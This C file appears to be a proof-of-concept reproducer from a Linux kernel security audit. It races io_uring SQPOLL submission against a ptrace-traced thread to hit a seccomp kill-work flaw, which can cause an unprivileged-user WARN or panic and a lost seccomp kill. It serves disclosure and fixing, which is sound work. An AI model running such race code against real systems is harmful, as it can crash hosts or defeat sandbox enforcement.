// SPDX-License-Identifier: GPL-2.0
/*
 * Finding 2: seccomp_uring_kill_work() sets the SQPOLL creator's mode to
 * SECCOMP_MODE_DEAD from task work. ptrace_notify() runs pending task
 * work at syscall entry, *before* __secure_computing() in
 * syscall_trace_enter(), so a creator traced with PTRACE_SYSCALL whose
 * kill work is queued while it is entering a system call reaches
 * __secure_computing() with mode DEAD:
 *     WARN_ON_ONCE(1); do_exit(SIGKILL);
 * a WARN an unprivileged user can trigger (a panic with panic_on_warn),
 * and do_exit() ends only that thread: the forced SIGSYS dies with it
 * and the rest of the process lives on.
 *
 * The window is the kernel entry of a syscall (from the syscall
 * instruction to ptrace_notify()'s task_work_pending() test), so this
 * loops. Each iteration: test process P; its main thread M creates the
 * SQPOLL ring, is PTRACE_SEIZEd by the harness with TRACESYSGOOD and runs
 * getppid() in a loop under PTRACE_SYSCALL; an untraced thread W publishes
 * IORING_OP_UNLINKAT (kill verdict) after a random delay, waits for the
 * CQE, and exits the process with 42 if it is still alive 1.5 s later.
 *
 * Output meaning:
 *   "hits: N" with N > 0: N iterations ended with only the creator thread
 *   gone (exit 42): the WARN path (check dmesg for "WARNING" in
 *   __secure_computing; it prints once per boot) or another lost kill.
 *   N == 0 after many iterations: not reproduced (the window is small).
 */
#include <sys/ptrace.h>
#include "common.h"

static struct ring sq_ring;
static int p_ready[2], p_go[2];

static void *w_thread(void *arg)
{
	struct io_uring_cqe cqe;
	char c;

	(void)arg;
	if (read(p_go[0], &c, 1) != 1)
		syscall(SYS_exit_group, 2);
	msleep(1 + rand() % 20);
	queue_unlinkat(&sq_ring);
	ring_publish(&sq_ring);		/* the SQ thread is polling */
	if (ring_wait_cqe(&sq_ring, 3000, &cqe) || cqe.res != -ECANCELED)
		syscall(SYS_exit_group, 3);
	msleep(1500);
	syscall(SYS_exit_group, 42);
	return NULL;
}

static int one_round(unsigned int seed)
{
	pid_t pid;
	int status = 0;
	char c = 'g';

	if (pipe(p_ready) || pipe(p_go))
		return -1;
	pid = fork();
	if (pid == 0) {
		pthread_t w;

		srand(seed);
		close(p_ready[0]);
		close(p_go[1]);
		if (install_kill_unlinkat(0) ||
		    ring_init(&sq_ring, IORING_SETUP_SQPOLL, 10000))
			_exit(2);
		pthread_create(&w, NULL, w_thread, NULL);
		if (write(p_ready[1], &c, 1) != 1)
			_exit(2);
		for (;;)
			syscall(SYS_getppid);
	}
	close(p_ready[1]);
	close(p_go[0]);
	if (read(p_ready[0], &c, 1) != 1)
		goto reap;
	if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) ||
	    ptrace(PTRACE_INTERRUPT, pid, 0, 0)) {
		perror("ptrace");
		kill(pid, SIGKILL);
		goto reap;
	}
	if (write(p_go[1], &c, 1) != 1)
		goto reap;
	for (;;) {
		int sig = 0;

		if (waitpid(pid, &status, __WALL) < 0)
			break;
		if (WIFEXITED(status) || WIFSIGNALED(status))
			break;
		if (WSTOPSIG(status) != (SIGTRAP | 0x80) &&
		    (status >> 16) != PTRACE_EVENT_STOP)
			sig = WSTOPSIG(status);
		ptrace(PTRACE_SYSCALL, pid, 0, sig);
	}
reap:
	close(p_ready[0]);
	close(p_go[1]);
	return WIFEXITED(status) && WEXITSTATUS(status) == 42;
}

int main(int argc, char **argv)
{
	int rounds = argc > 1 ? atoi(argv[1]) : 2000;
	int i, hits = 0;

	for (i = 0; i < rounds; i++) {
		if (one_round(i * 2654435761u) == 1) {
			hits++;
			printf("round %d: the creator thread died alone (exit 42)\n", i);
			fflush(stdout);
		}
	}
	printf("hits: %d of %d\n", hits, rounds);
	if (hits)
		printf("RESULT: BYPASS/WARN: see dmesg for WARNING in __secure_computing\n");
	return hits ? 1 : 0;
}
